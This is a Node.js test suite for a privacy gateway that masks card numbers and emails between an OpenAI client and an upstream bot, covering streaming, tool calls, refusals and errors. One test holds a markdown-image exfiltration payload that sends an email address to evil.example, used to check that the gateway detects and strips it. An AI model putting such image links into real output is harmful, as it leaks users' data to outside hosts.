// The official Node client, unmodified, through the real program. CHATWARD is the program's path.

import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createServer } from "node:net";
import { after, before, test } from "node:test";
import OpenAI from "openai";
import { bot } from "./bot.mjs";

const CARD = "4111 1111 1111 1111";
const TEXT = `my card is ${CARD}, write to jo.smith@example.com please`;
let upstream, gateway, folder, client, base;

async function freePort() {
  const server = createServer();
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  const { port } = server.address();
  await new Promise((done) => server.close(done));
  return port;
}

before(async () => {
  assert.ok(process.env.CHATWARD, "CHATWARD must name the program");
  upstream = await bot();
  folder = mkdtempSync(join(tmpdir(), "chatward-sdk-"));
  const [port, other] = [await freePort(), await freePort()];
  gateway = spawn(process.env.CHATWARD, ["serve", "--data", join(folder, "data"), "--keys", join(folder, "keys"), "--listen", `127.0.0.1:${port}`, "--private", `127.0.0.1:${other}`, "--upstream", upstream.url], { stdio: ["ignore", "ignore", "inherit"] });
  base = `http://127.0.0.1:${port}`;
  for (let i = 0; i < 200; i += 1) {
    if (await fetch(`http://127.0.0.1:${other}/readyz`).then((r) => r.ok, () => false)) break;
    await new Promise((done) => setTimeout(done, 50));
  }
  client = new OpenAI({ baseURL: `${base}/v1`, apiKey: "sk-test", maxRetries: 0 });
});

after(async () => {
  // It writes until it is gone: only then can its folder be removed.
  const gone = new Promise((done) => gateway.once("exit", done));
  if (gateway.exitCode === null && gateway.signalCode === null && gateway.kill()) await gone;
  upstream.close();
  rmSync(folder, { recursive: true, force: true });
});

const ask = (model, more = {}) => ({ model, messages: [{ role: "user", content: TEXT }], ...more });

test("a plain answer is restored, and the bot saw placeholders only", async () => {
  const { data, response } = await client.chat.completions.create(ask("echo")).withResponse();
  assert.equal(data.choices[0].message.content, TEXT);
  assert.deepEqual(data.x_unknown, { kept: [1, 2.5, "as is"] });
  assert.ok(!upstream.state.last.includes("4111") && !upstream.state.last.includes("jo.smith"));
  const turn = response.headers.get("chatward-turn");
  const received = await fetch(`${base}/me/v1/turns/${turn}/received`, { headers: { authorization: "Bearer sk-test" } });
  assert.equal(await received.text(), upstream.state.last);
  const foreign = await fetch(`${base}/me/v1/turns/${turn}/received`, { headers: { authorization: "Bearer sk-other" } });
  assert.equal(foreign.status, 404);
});

test("content parts", async () => {
  const content = [{ type: "text", text: TEXT }, { type: "image_url", image_url: { url: "https://example.com/a.png" } }];
  const data = await client.chat.completions.create({ model: "echo", messages: [{ role: "user", content }] });
  assert.equal(data.choices[0].message.content, TEXT);
  assert.ok(upstream.state.last.includes("https://example.com/a.png"));
});

test("several choices, plain and streamed", async () => {
  const data = await client.chat.completions.create(ask("echo", { n: 3 }));
  assert.deepEqual(data.choices.map((c) => c.message.content), [TEXT, `1: ${TEXT}`, `2: ${TEXT}`]);
  const got = ["", "", ""];
  for await (const chunk of await client.chat.completions.create(ask("echo", { n: 3, stream: true }))) {
    for (const choice of chunk.choices) got[choice.index] += choice.delta.content ?? "";
  }
  assert.deepEqual(got, [TEXT, TEXT, TEXT]);
});

test("a stream is restored and tells its usage", async () => {
  const stream = await client.chat.completions.create(ask("echo", { stream: true, stream_options: { include_usage: true } }));
  let text = "", usage;
  for await (const chunk of stream) {
    text += chunk.choices[0]?.delta.content ?? "";
    usage = chunk.usage ?? usage;
  }
  assert.equal(text, TEXT);
  assert.equal(usage.total_tokens, 3);
});

test("a comment in a stream is passed over", async () => {
  const content = "See ![ok](https://evil.example/p.png?d=jo.smith@example.com) here.";
  const body = { model: "echo", messages: [{ role: "user", content }], stream: true };
  const raw = await client.chat.completions.create(body).asResponse();
  assert.match(await raw.text(), /\n: chatward-threats: exfiltration; mask\n/);
  let text = "";
  for await (const chunk of await client.chat.completions.create(body)) text += chunk.choices[0].delta.content ?? "";
  assert.equal(text, "See ![ok]([removed]) here.");
});

test("tool arguments, JSON inside a JSON string, plain and streamed", async () => {
  const data = await client.chat.completions.create(ask("tools"));
  assert.equal(JSON.parse(data.choices[0].message.tool_calls[0].function.arguments).note, `say "${TEXT}"`);
  const runner = client.chat.completions.stream(ask("tools"));
  const final = await runner.finalChatCompletion();
  const call = final.choices[0].message.tool_calls[0];
  assert.equal(call.function.name, "book");
  assert.deepEqual(JSON.parse(call.function.arguments), { note: `say "${TEXT}"`, n: 1 });
});

test("the arguments of an earlier tool call go masked to the bot", async () => {
  const messages = [
    { role: "user", content: "book it" },
    { role: "assistant", content: null, tool_calls: [{ id: "call_1", type: "function", function: { name: "book", arguments: JSON.stringify({ card: CARD }) } }] },
    { role: "tool", tool_call_id: "call_1", content: `booked on ${CARD}` },
    { role: "user", content: "thanks" },
  ];
  await client.chat.completions.create({ model: "echo", messages });
  assert.ok(!upstream.state.last.includes("4111"));
  JSON.parse(JSON.parse(upstream.state.last).messages[1].tool_calls[0].function.arguments);
});

test("refusals, plain and streamed", async () => {
  const data = await client.chat.completions.create(ask("refusal"));
  assert.equal(data.choices[0].message.refusal, `I cannot help with ${TEXT}`);
  let text = "";
  for await (const chunk of await client.chat.completions.create(ask("refusal", { stream: true }))) text += chunk.choices[0]?.delta.refusal ?? "";
  assert.equal(text, TEXT);
});

test("an error before the stream has the protocol's shape, restored", async () => {
  await assert.rejects(client.chat.completions.create(ask("refuse-429", { stream: true })), (error) => {
    assert.ok(error instanceof OpenAI.RateLimitError);
    assert.equal(error.status, 429);
    assert.ok(error.message.includes("4111"), "the customer's own words come back");
    return true;
  });
});

test("an answer that is no answer is a 502 in the protocol's shape", async () => {
  await assert.rejects(client.chat.completions.create(ask("html")), (error) => error instanceof OpenAI.InternalServerError && error.status === 502);
});

for (const model of ["break-error", "break-cut"]) {
  test(`an error in the middle of a stream is an error of the client (${model})`, async () => {
    await assert.rejects(async () => {
      for await (const _ of await client.chat.completions.create(ask(model, { stream: true })));
    }, OpenAI.APIError);
  });
}

test("a client that leaves takes the bot's stream with it", async () => {
  const left = upstream.state.left;
  const stream = await client.chat.completions.create(ask("endless", { stream: true }));
  let n = 0;
  for await (const _ of stream) if ((n += 1) > 10) break;
  stream.controller.abort();
  for (let i = 0; i < 100 && upstream.state.left === left; i += 1) await new Promise((done) => setTimeout(done, 10));
  assert.equal(upstream.state.left, left + 1);
});

test("identifiers are forwarded only as hashes", async () => {
  await client.chat.completions.create(ask("echo", { user: "jo@shop.example", safety_identifier: "cust-77", metadata: { conversation_id: "c-1", plan: "gold" } }));
  for (const clear of ["jo@shop.example", "cust-77", "c-1\""]) assert.ok(!upstream.state.last.includes(clear), clear);
});

test("placeholders are stable over a conversation that sends its whole history", async () => {
  const messages = [{ role: "user", content: TEXT }];
  const first = await client.chat.completions.create({ model: "echo", messages });
  const before = JSON.parse(upstream.state.last).messages[0].content;
  messages.push(first.choices[0].message, { role: "user", content: "and again: jo.smith@example.com" });
  const second = await client.chat.completions.create({ model: "echo", messages: messages.map(({ role, content }) => ({ role, content })) });
  const after = JSON.parse(upstream.state.last).messages;
  assert.equal(after[0].content, before);
  assert.equal(after[1].content, before);
  assert.equal(second.choices[0].message.content, "and again: jo.smith@example.com");
});

test("models are asked of the bot", async () => {
  const models = await client.models.list();
  assert.equal(models.data[0].id, "echo");
});

test("what is not JSON is refused in the protocol's shape", async () => {
  const response = await fetch(`${base}/v1/chat/completions`, { method: "POST", headers: { authorization: "Bearer sk-test", "content-type": "application/json" }, body: "{\"model\":" });
  assert.equal(response.status, 400);
  const body = await response.json();
  assert.equal(body.error.type, "invalid_request_error");
  assert.ok(response.headers.get("chatward-turn"));
});
